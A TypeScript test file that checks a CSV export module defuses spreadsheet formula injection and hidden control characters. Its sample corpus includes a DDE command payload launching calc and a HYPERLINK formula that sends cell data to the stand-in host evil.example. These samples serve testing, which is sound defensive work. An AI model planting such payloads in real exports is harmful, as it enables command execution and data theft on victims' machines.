import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { isPlainTable, textCell } from '../../src/report/csv.ts';

const OPERATORS = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
const SPACES = ['', ' ', '   ', '\u00a0', '\u3000'];
const BODIES = ["cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?"&A1,"click")', '1+1', 'abc'];
const CORPUS = [
  ...OPERATORS.flatMap((operator) => SPACES.map((space) => `${space}${operator}${BODIES[0] ?? ''}`)),
  ...OPERATORS.flatMap((operator) => BODIES.map((body) => operator + body)),
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  '\tplain',
  '\rplain',
  ' \t=1',
  '=',
  '-abc',
];

const STARTS_FORMULA = /^\s*[=+\-@＝＋－＠]/;

/** A line as Excel reads it where `;` is the separator: quotes at the start of a cell group, others are characters. */
function semicolonCells(line: string): string[] {
  const cells: string[] = [];
  let rest = `;${line}`;
  while (rest !== '') {
    const [all, quoted = '', plain = ''] = /^;\s*("(?:[^"]|"")*(?:"|$))?([^;]*)/.exec(rest) ?? [rest];
    cells.push(quoted.replaceAll(/^"|"$/g, '').replaceAll('""', '"') + plain);
    rest = rest.slice(all.length);
  }
  return cells;
}

function cellsOf(line: string): string[] {
  return parse(`${line}\n`)[0] ?? [];
}

describe('a cell that a spreadsheet would run', () => {
  test.each(CORPUS)('is shown as text: %j', (text) => {
    const [cell] = cellsOf(textCell(text));
    expect(cell).toMatch(/^'/);
    expect(textCell(text)).not.toMatch(/\p{Cc}/u);
  });

  test.each(CORPUS.map((text) => `a;${text};b`))(
    'is shown as text by a program that splits lines at semicolons: %j',
    (text) => {
      for (const cell of semicolonCells(`video,${textCell(text)},x`))
        expect(cell).not.toMatch(STARTS_FORMULA);
    },
  );

  test('is found behind quotes, which such a program takes away', () => {
    expect(textCell('a;"=1+1;b')).toBe(`"a;'""=1+1;b"`);
    expect(textCell('a; "" -1;=2')).toBe(`"a;' """" -1;'=2"`);
  });

  test('is also one that only looks like an ID', () => {
    expect(textCell('-abc')).toBe("'-abc");
    expect(textCell('_abc')).toBe('_abc');
  });
});

test('texts that no spreadsheet runs stay as they are', () => {
  for (const text of [
    '',
    'abc',
    "'quoted'",
    'a=b',
    'a - b',
    'a; b',
    ';',
    '1',
    'ticket +1',
    'Müller',
    '東京',
    '👍',
  ]) {
    expect(textCell(text)).toBe(text);
  }
});

test('control, bidi and zero-width characters become visible', () => {
  expect(textCell('a\u001b[2Jb\u202ec\u200bd')).toBe('a<U+001B>[2Jb<U+202E>c<U+200B>d');
  expect(textCell('two\nlines')).toBe('two<U+000A>lines');
});

test('a long text is never cut', () => {
  expect(textCell('é'.repeat(5000))).toHaveLength(5000);
});

test('quoting is that of csv-stringify, for any text', () => {
  const text = fc.string({ unit: fc.constantFrom('a', ' ', '"', ',', ';', '\n', '\t', '=', 'é') });
  fc.assert(
    fc.property(fc.array(text, { minLength: 2, maxLength: 5 }), (texts) => {
      const cells = texts.map((value) => textCell(value));
      const bare = cells.map((cell) => cellsOf(`${cell},x`)[0] ?? '');
      expect(`${cells.join(',')}\n`).toBe(stringify([bare]));
    }),
  );
});

test('no text whatsoever breaks a line or leaves its cell', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary' }), (text) => {
      const cells = cellsOf(`a,${textCell(text)},z`);
      expect(cells).toHaveLength(3);
      expect(cells[1]).not.toMatch(STARTS_FORMULA);
      expect(cells[1]).not.toMatch(/[\p{Cc}\p{Cs}\p{Cf}]/u);
    }),
  );
});

test('no text whatsoever becomes a formula where lines are split at semicolons', () => {
  const unit = fc.constantFrom(';', '"', '=', '-', '＝', ' ', '\u00a0', ',', "'", 'a');
  fc.assert(
    fc.property(fc.array(fc.string({ unit }), { minLength: 1, maxLength: 3 }), (texts) => {
      const line = texts.map((text) => textCell(text)).join(',');
      for (const cell of semicolonCells(line)) expect(cell).not.toMatch(STARTS_FORMULA);
    }),
    { numRuns: 2_000 },
  );
});

function rowsOf(text: fc.Arbitrary<string>): fc.Arbitrary<string[][]> {
  return fc.array(fc.array(text, { minLength: 3, maxLength: 3 }), { minLength: 1, maxLength: 4 });
}

function joined(rows: readonly string[][]): string {
  return rows.map((cells) => `${cells.join(',')}\n`).join('');
}

describe('a table of texts joined as they stand', () => {
  const unit = fc.constantFrom(
    'a',
    '7',
    ' ',
    ',',
    '\n',
    ';',
    '"',
    '=',
    '-',
    "'",
    '/',
    '\\',
    '\u007f',
    'é',
    '＝',
  );
  test('is only called plain when it is their CSV', () => {
    fc.assert(
      fc.property(rowsOf(fc.string({ unit, maxLength: 3 })), (rows) => {
        const isCsv = rows.every((cells) => cells.every((text) => textCell(text) === text));
        const isPlain = isPlainTable(joined(rows), { rows: rows.length, columns: 3 });
        expect(isCsv || !isPlain).toBe(true);
      }),
      { numRuns: 1_000 },
    );
  });

  test('is called so for what is in nearly every manifest', () => {
    const usual = fc.constantFrom(
      '',
      '8a4f94e736',
      'older than 90 days',
      'OPS-1042',
      '/srv/a_b.csv',
      './x',
      "it's",
    );
    fc.assert(
      fc.property(rowsOf(usual), (rows) => {
        expect(isPlainTable(joined(rows), { rows: rows.length, columns: 3 })).toBe(true);
      }),
    );
  });

  test.each([
    ['a row that is missing', 'a,b,c\n', 2],
    ['a row too many', 'a,b,c\na,b,c\n', 1],
    ['a cell too many', 'a,b,c,d\n', 1],
    ['a cell that is missing', 'a,b\n', 1],
    ['an end within a row', 'a\nb,c', 1],
    ['a formula at the beginning', '=a,b,c\n', 1],
    ['a formula after a line', 'a,b,c\n=a,b,c\n', 2],
  ])('is not plain with %s', (_, table, rows) => {
    expect(isPlainTable(table, { rows, columns: 3 })).toBe(false);
  });
});
